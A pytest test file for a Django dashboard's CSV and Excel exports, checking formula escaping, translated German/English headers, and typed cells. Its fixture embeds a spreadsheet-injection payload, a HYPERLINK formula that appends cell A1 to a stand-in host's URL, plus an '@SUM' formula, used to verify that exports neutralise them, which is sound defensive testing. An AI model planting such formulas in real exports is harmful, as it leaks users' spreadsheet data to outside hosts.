"""The dashboard's table exports: the one export helper's guard, translated headers and labels, typed cells."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pandas as pd
import pytest
from django.utils import timezone

from dashboard.rollups import rollup_rebuild
from tests.dashboard import factories as f
from tests.factories import TouchpointFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/"&A1,"klick")'


@pytest.fixture
def formula_touchpoint(department: Any) -> Any:
    touchpoint = TouchpointFactory(name=FORMULA, slug="formel", department=department)
    at = timezone.now() - dt.timedelta(days=1)
    for score in (2, 9, 10):
        f.response(at=at, score=score, touchpoint=touchpoint)
    f.case(at=at, touchpoint=touchpoint, root_cause=f.root_cause("@SUM(1+1)"))
    rollup_rebuild()
    return touchpoint


def german_csv(content: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")


def cell_of(content: bytes, header: str, row: int = 2) -> Any:
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    names = [cell.value for cell in ws[1]]
    return ws.cell(row=row, column=names.index(header) + 1)


@pytest.mark.parametrize("table", ["touchpoints", "matrix"])
def test_a_formula_in_a_touchpoint_name_comes_out_as_text(client: Any, cceo: Any, formula_touchpoint: Any,
                                                          table: str) -> None:
    client.force_login(cceo)
    csv = client.get(f"/dashboard/export/{table}.csv?period=30")
    assert csv.status_code == 200
    assert german_csv(csv.content)["Kontaktpunkt"].tolist() == ["'" + FORMULA]
    cell = cell_of(client.get(f"/dashboard/export/{table}.xlsx?period=30").content, "Kontaktpunkt")
    assert cell.value == FORMULA and cell.data_type == "s"


def test_a_formula_in_a_root_cause_comes_out_as_text(client: Any, cceo: Any, formula_touchpoint: Any) -> None:
    client.force_login(cceo)
    frame = german_csv(client.get("/dashboard/export/root-causes.csv?period=30").content)
    assert frame["Grundursache"].tolist() == ["'@SUM(1+1)"] and frame["Fälle"].tolist() == [1]
    cell = cell_of(client.get("/dashboard/export/root-causes.xlsx?period=30").content, "Grundursache")
    assert cell.value == "@SUM(1+1)" and cell.data_type == "s"


def test_the_german_touchpoint_table_has_translated_headers_labels_and_numbers(
    client: Any, cceo: Any, formula_touchpoint: Any
) -> None:
    client.force_login(cceo)
    frame = german_csv(client.get("/dashboard/export/touchpoints.csv?period=30").content)
    assert list(frame.columns)[:5] == ["Kontaktpunkt", "Phase", "Abteilung", "Zustand", "NPS"]
    assert frame["Antworten"].tolist() == [3] and pd.api.types.is_integer_dtype(frame["Antworten"])
    assert frame["NPS"].tolist() == [33.3] and pd.api.types.is_float_dtype(frame["NPS"])
    assert frame["Zustand"].tolist() == ["zu wenige Daten"]
    xlsx = client.get("/dashboard/export/touchpoints.xlsx?period=30").content
    nps = cell_of(xlsx, "NPS")
    assert nps.value == pytest.approx(33.3) and nps.data_type == "n"


def test_the_kpi_table_says_ja_or_nein_and_speaks_english(client: Any, cceo: Any, formula_touchpoint: Any) -> None:
    client.force_login(cceo)
    frame = german_csv(client.get("/dashboard/export/kpis.csv?period=30").content)
    values = dict(zip(frame["Kennzahl"], frame["Wert"], strict=True))
    assert values["Veränderung signifikant"] in ("ja", "nein") and values["Antworten"] == "3"
    english = client.get("/dashboard/export/kpis.csv?period=30", HTTP_ACCEPT_LANGUAGE="en")
    frame = pd.read_csv(io.BytesIO(english.content), encoding="utf-8-sig")
    assert list(frame.columns) == ["Measure", "Value"]
    assert dict(zip(frame["Measure"], frame["Value"], strict=True))["Change significant"] in ("yes", "no")
    touchpoints = client.get("/dashboard/export/touchpoints.csv?period=30", HTTP_ACCEPT_LANGUAGE="en")
    columns = pd.read_csv(io.BytesIO(touchpoints.content), encoding="utf-8-sig").columns
    assert {"Touchpoint", "Stage", "Department", "Responses"} <= set(columns)


def test_the_trend_table_has_dates_and_numbers(client: Any, cceo: Any, formula_touchpoint: Any) -> None:
    client.force_login(cceo)
    xlsx = client.get("/dashboard/export/trend.xlsx?period=30").content
    period = cell_of(xlsx, "Zeitraum ab")
    assert isinstance(period.value, dt.datetime) and period.number_format == "DD.MM.YYYY"
    frame = german_csv(client.get("/dashboard/export/trend.csv?period=30").content)
    assert frame["Antworten"].sum() == 3
